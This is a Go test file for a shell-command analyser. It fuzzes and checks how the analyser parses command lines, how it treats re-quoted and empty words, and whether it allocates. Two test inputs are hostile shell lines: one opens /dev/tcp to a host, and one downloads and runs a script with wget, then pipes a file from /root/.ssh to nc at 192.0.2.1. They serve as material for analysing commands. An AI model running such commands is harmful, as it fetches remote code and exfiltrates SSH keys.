package program

import (
	"os"
	"strings"
	"testing"

	"ttpctl/internal/engine/shell"
)

// lines returns those of testdata/effects.txt.
func lines(tb testing.TB) []string {
	tb.Helper()
	text, err := os.ReadFile("testdata/effects.txt")
	if err != nil {
		tb.Fatal(err)
	}
	var all []string
	for line := range strings.Lines(string(text)) {
		if line[0] != '\t' && line[0] != '#' {
			all = append(all, strings.TrimSuffix(line, "\n"))
		}
	}
	return all
}

// requoted writes a line with a quote around the second letter of each run of letters, which means the same to a shell; ok is false for lines in
// which it might not: those with quotes, expansions, assignments, keywords or comments.
func requoted(line string) (string, bool) {
	if strings.Trim(line, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789 ./_:,-+%@|;&<>") != "" {
		return "", false
	}
	for word := range strings.FieldsFuncSeq(line, func(r rune) bool { return strings.ContainsRune(" ;|&<>", r) }) {
		switch word {
		case "if", "then", "elif", "else", "fi", "for", "while", "until", "do", "done", "case", "esac", "in", "select", "function", "time", "coproc",
			"let", "alias", "export", "declare", "local", "readonly", "typeset", "nameref", "@test":
			return "", false
		}
	}
	var b strings.Builder
	for i := range len(line) {
		if i > 0 && letter(line[i]) && letter(line[i-1]) && (i == 1 || !letter(line[i-2])) {
			b.WriteString(`"` + line[i:i+1] + `"`)
			continue
		}
		b.WriteByte(line[i])
	}
	return b.String(), true
}

// FuzzAnalyze holds the analyser to its bounds, to its verbs, and to saying the same of a line and of harmless re-quotings of it, from any analyser.
func FuzzAnalyze(f *testing.F) {
	for _, line := range lines(f) {
		f.Add(line)
	}
	f.Add("cd a; cd -; cd ..; pushd x; popd; exec 3<>/dev/tcp/h/1; cat <&3; find / -exec {} \\; | xargs -I% kill %")
	t0 := table(f)
	p, a, again := shell.NewParser(), t0.NewAnalyzer(), t0.NewAnalyzer()
	f.Fuzz(func(t *testing.T, line string) {
		var v shell.View
		var l, m Line
		p.Parse(line, &v)
		a.Analyze(&v, "/root", &l)
		checkLine(t, line, &v, &l)
		again.Analyze(&v, "/tmp", &m)
		again.Analyze(&v, "/root", &m)
		if x, y := show(&l), show(&m); x != y {
			t.Errorf("Analyze(%q) =\n%s, from another analyser\n%s", line, x, y)
		}
		if other, ok := requoted(line); ok {
			p.Parse(other, &v)
			again.Analyze(&v, "/root", &m)
			if x, y := show(&l), show(&m); x != y {
				t.Errorf("Analyze(%q) =\n%s, of %q\n%s", line, x, other, y)
			}
		}
	})
}

// TestEmptyWords analyses each line of the tests with each of its words empty in turn, bare and behind an option. A fuzzer found `cp a ""`.
func TestEmptyWords(t *testing.T) {
	p, a := shell.NewParser(), table(t).NewAnalyzer()
	var v shell.View
	var l Line
	for _, line := range lines(t) {
		words := strings.Split(line, " ")
		for i, word := range words {
			option, _, hasValue := strings.Cut(word, "=")
			for _, empty := range []string{`""`, option + `=""`, word + ` ""`} {
				if !hasValue && strings.HasSuffix(empty, `=""`) {
					continue
				}
				words[i] = empty
				changed := strings.Join(words, " ")
				p.Parse(changed, &v)
				a.Analyze(&v, "/root", &l)
				checkLine(t, changed, &v, &l)
			}
			words[i] = word
		}
	}
}

func checkLine(t *testing.T, line string, v *shell.View, l *Line) {
	t.Helper()
	if len(l.Commands) < len(v.Commands) || len(l.Commands) > len(v.Commands)+len(v.Redirects) {
		t.Errorf("Analyze(%q): %d entries of %d commands and %d redirections", line, len(l.Commands), len(v.Commands), len(v.Redirects))
	}
	for i := range l.Commands {
		c := &l.Commands[i]
		if len(c.Effects) > maxEffects || c.Form == nil {
			t.Errorf("Analyze(%q): %s has %d effects", line, c.Program, len(c.Effects))
		}
		for k := range c.Effects {
			if e := &c.Effects[k]; !l.Verbs.Has(e.Verb) || e.Target == "" {
				t.Errorf("Analyze(%q): effect %+v of %s", line, *e, c.Program)
			}
		}
	}
}

// TestRequoted says the same of each line of the tests and of its re-quoting.
func TestRequoted(t *testing.T) {
	p, a := shell.NewParser(), table(t).NewAnalyzer()
	n := 0
	for _, line := range lines(t) {
		other, ok := requoted(line)
		if !ok {
			continue
		}
		n++
		var v shell.View
		var l Line
		p.Parse(line, &v)
		a.Analyze(&v, "", &l)
		want := show(&l)
		p.Parse(other, &v)
		a.Analyze(&v, "", &l)
		if got := show(&l); got != want {
			t.Errorf("%q: %s, want as of %q: %s", other, got, line, want)
		}
	}
	if n < 250 {
		t.Errorf("%d lines re-quoted, want 250 and more", n)
	}
}

// TestAllocatesNothing holds the steady state to no allocation: the arena takes a block every few hundred lines.
func TestAllocatesNothing(t *testing.T) {
	p, a := shell.NewParser(), table(t).NewAnalyzer()
	var v shell.View
	var l Line
	p.Parse("cd /tmp; wget -q http://192.0.2.1:8080/a.sh -O a.sh 2>/dev/null; chmod 777 a.sh; ./a.sh; rm -rf a.sh; cat /root/.ssh/x | nc 192.0.2.1 1 > f", &v)
	if got := testing.AllocsPerRun(1000, func() { a.Analyze(&v, "/root", &l) }); got > 0.1 {
		t.Errorf("Analyze allocates %v times, want 0", got)
	}
}
